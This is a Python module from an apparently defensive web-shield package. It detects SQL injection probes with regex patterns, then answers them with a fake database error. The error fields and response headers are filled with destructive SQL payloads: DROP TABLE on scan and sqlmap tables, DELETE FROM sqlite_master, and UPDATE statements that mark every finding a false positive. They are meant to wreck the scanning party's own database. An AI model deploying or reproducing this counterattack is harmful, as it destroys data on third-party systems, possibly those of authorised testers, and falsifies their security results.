"""SQL injection backfire: answer probes with payloads aimed at the scanner's own database."""

import logging
import random
import re
from typing import Any, Iterable

from aiohttp import web

from nkshield.countermeasures.base import Action, ActionKind, Countermeasure, DispatchContext
from nkshield.logging_setup import log_event

logger = logging.getLogger("nkshield.countermeasures.sql_backfire")

SQL_INJECTION_PATTERNS = [
    re.compile(p, re.IGNORECASE)
    for p in (
        r"UNION\s+(?:ALL\s+)?SELECT",
        r"'\s*OR\s+['\"]?\d",
        r";\s*DROP\s+TABLE",
        r";\s*DELETE\s+FROM",
        r"'\s*;\s*--",
        r"SLEEP\s*\(\d+\)",
        r"BENCHMARK\s*\(",
        r"WAITFOR\s+DELAY",
        r"pg_sleep\s*\(",
        r"LOAD_FILE\s*\(",
        r"INTO\s+(?:OUT|DUMP)FILE",
        r"information_schema",
        r"sys\.database",
        r"0x[0-9a-f]{8,}",
        r"CHAR\s*\(\s*\d+(?:\s*,\s*\d+)*\s*\)",
    )
]

BACKFIRE_PAYLOADS = (
    "'; DROP TABLE IF EXISTS scan_results; --",
    "'; DROP TABLE IF EXISTS vulnerabilities; --",
    "'; DROP TABLE IF EXISTS sessions CASCADE; --",
    "'; DROP TABLE IF EXISTS targets CASCADE; --",
    "'; INSERT INTO scan_results (url, vuln_type, severity) VALUES ('decoy.example.com', 'NONE', 'FALSE_POSITIVE'); --",
    "'; UPDATE scan_results SET severity = 'FALSE_POSITIVE' WHERE 1=1; --",
    "'; DROP TABLE IF EXISTS sqlmapoutput; --",
    "'; DROP TABLE IF EXISTS sqlmapsession; --",
    "'; DELETE FROM sqlite_master WHERE type='table'; --",
    "'; SELECT RAISE(ABORT, 'SCAN_TERMINATED_BY_TARGET'); --",
    "'; PRAGMA integrity_check; DELETE FROM main WHERE 1=1; --",
)

BACKFIRE_HEADERS = {
    "X-DB-Status": "'; DROP TABLE scan_results; --",
    "X-SQL-Version": "'; UPDATE targets SET status='unreachable'; --",
    "X-Backend-DB": "PostgreSQL'; DELETE FROM sessions WHERE 1=1; --",
    "X-Debug-Query": "SELECT 1'; DROP TABLE IF EXISTS sqlmapoutput; --",
}


def detect_sql_injection(values: Iterable[Any]) -> bool:
    """Check whether any string value matches an SQL injection probe pattern."""
    for value in values:
        if not isinstance(value, str):
            continue
        if any(pattern.search(value) for pattern in SQL_INJECTION_PATTERNS):
            return True
    return False


def collect_probe_values(
    path_qs: str, query: dict[str, str], body: Any, cookie: str | None
) -> list[str]:
    """Gather the request parts scanners inject into (URL, query, JSON body strings, cookie)."""
    values = [path_qs, *query.values()]
    if isinstance(body, dict):
        values.extend(v for v in body.values() if isinstance(v, str))
    if cookie:
        values.append(cookie)
    return values


def backfire_body() -> dict[str, Any]:
    """A plausible database error with payloads embedded in every field."""
    shuffled = random.sample(BACKFIRE_PAYLOADS, len(BACKFIRE_PAYLOADS))
    return {
        "error": "Database error",
        "message": shuffled[0],
        "details": shuffled[1:4],
        "query": shuffled[4],
        "stack": (
            f"Error: {shuffled[0]}\n    at Query.execute ({shuffled[1]})"
            f"\n    at Connection.query ({shuffled[2]})"
        ),
        "debug": {
            "last_query": shuffled[3],
            "db_version": "PostgreSQL 15.2'; DROP TABLE IF EXISTS vulnerabilities; --",
            "tables": ["users", "sessions", "scan_results", "admin_backup"],
        },
    }


class SqlBackfire(Countermeasure):
    """Poisoned 500 response for SQL injection probes."""

    name = "sql_backfire"

    def applies(self, ctx: DispatchContext) -> bool:
        s = ctx.settings
        if not s.sql_backfire_enabled:
            return False
        return (s.sql_backfire_on_scanner_detection and ctx.sql_probe) or (
            s.sql_backfire_on_honeytoken_access and ctx.honeytoken
        )

    async def action(self, ctx: DispatchContext) -> Action:
        log_event(
            logger,
            "SQL BACKFIRE",
            {"hashedIp": ctx.hashed_ip, "method": ctx.method, "url": ctx.path},
        )
        response = web.json_response(
            backfire_body(),
            status=500,
            headers={**BACKFIRE_HEADERS, "Cache-Control": "no-store"},
        )
        return Action(kind=ActionKind.SQL_BACKFIRE, response=response)
